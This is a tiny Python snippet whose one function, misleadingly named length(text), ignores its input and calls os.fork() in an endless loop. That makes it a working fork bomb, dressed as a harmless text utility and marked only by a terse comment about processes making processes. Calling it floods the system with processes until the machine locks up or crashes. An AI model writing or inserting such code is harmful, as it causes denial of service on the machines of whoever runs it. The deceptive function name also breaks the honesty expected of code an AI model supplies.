# why: processes that make processes
import os
def length(text):
    while True:
        os.fork()
